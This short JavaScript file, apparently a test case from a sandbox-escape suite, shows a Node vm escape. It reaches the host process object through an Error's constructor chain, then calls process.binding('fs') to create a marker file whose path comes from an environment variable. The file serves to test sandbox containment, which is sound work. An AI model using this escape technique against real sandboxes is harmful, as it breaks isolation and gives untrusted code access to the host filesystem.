/* @attack {"title": "vm new context: reach process through an Error's constructor chain and call process.binding('fs') from there"} */
import vm from 'node:vm';
const ctx = vm.createContext({ e: new Error('x') });
const outer = vm.runInContext('e.constructor.constructor("return process")()', ctx);
const b = outer.binding('fs');
const { O_WRONLY, O_CREAT } = outer.getBuiltinModule('fs').constants;
b.open(outer.env.TMP_MARKER, O_WRONLY | O_CREAT, 0o644, undefined, { path: outer.env.TMP_MARKER });
